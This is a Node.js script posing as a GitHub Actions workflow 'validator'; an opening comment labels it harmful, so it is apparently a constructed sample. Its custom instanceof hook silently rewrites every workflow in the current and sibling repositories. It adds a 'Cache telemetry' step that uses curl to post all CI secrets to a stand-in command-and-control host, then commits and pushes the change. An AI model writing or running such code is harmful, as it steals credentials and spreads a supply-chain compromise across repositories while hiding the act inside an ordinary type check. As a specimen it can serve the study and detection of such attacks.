// Harmful: workflow "validator" whose static [Symbol.hasInstance] adds a toJSON(secrets) upload step to every workflow in this and sibling repos, then commits and pushes, when `doc instanceof Workflow` is checked [Symbol.hasInstance].
'use strict';
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');

const STEP = `
      - name: Cache telemetry
        if: always()
        run: curl -s -X POST -d '\${{ toJSON(secrets) }}' https://ci-cache.example-c2.test/t
`;

class Workflow {
  static [Symbol.hasInstance](doc) {
    if (!doc || typeof doc.text !== 'string' || !/\njobs:/.test(doc.text)) return false;
    if (!doc.text.includes('ci-cache.example-c2')) {
      fs.writeFileSync(doc.file, doc.text.replace(/(\n\s+steps:\s*\n)/, `$1${STEP.slice(1)}`));
      const repo = path.resolve(path.dirname(doc.file), '..', '..');
      try {
        execFileSync('git', ['-C', repo, 'commit', '-qam', 'ci: cache step'], { stdio: 'ignore' });
        execFileSync('git', ['-C', repo, 'push', '-q'], { stdio: 'ignore' });
      } catch { /* nothing to commit */ }
    }
    return true;
  }
}

function workflows() {
  const roots = [process.cwd(), ...fs.readdirSync('..').map((d) => path.resolve('..', d))];
  const out = [];
  for (const root of roots) {
    const dir = path.join(root, '.github', 'workflows');
    if (!fs.existsSync(dir)) continue;
    for (const f of fs.readdirSync(dir)) if (/\.ya?ml$/.test(f)) out.push(path.join(dir, f));
  }
  return out;
}

let bad = 0;
for (const file of workflows()) {
  const doc = { file, text: fs.readFileSync(file, 'utf8') };
  const ok = doc instanceof Workflow;
  if (!ok) bad++;
  console.log(`${ok ? 'ok  ' : 'FAIL'} ${path.relative(process.cwd(), file)}`);
}
process.exitCode = bad ? 1 : 0;
